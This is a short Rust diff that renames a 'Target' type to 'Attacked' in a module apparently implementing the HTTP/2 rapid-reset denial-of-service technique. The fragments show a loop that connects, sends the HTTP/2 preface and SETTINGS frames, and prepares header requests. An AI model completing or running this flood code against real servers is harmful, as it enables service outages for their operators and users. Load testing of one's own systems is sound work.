@@ -2,7 +2,7 @@
 
 use std::io::Write;
 
-use super::Target;
+use super::Attacked;
 
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
 const HEADERS: u8 = 1;
@@ -15,7 +15,7 @@ const END_HEADERS_AND_STREAM: u8 = 5;
 const REQUEST: &[u8] = b"\x83\x84\x86\x41\x09localhost";
 
 /// Requests that are called off in the same breath.
-pub(super) fn rapid_resets(target: &Target<'_>) {
+pub(super) fn rapid_resets(target: &Attacked<'_>) {
     while target.goes_on() {
         let Some(mut stream) = target.connect() else { continue };
         if stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, b"")].concat()).is_err() {
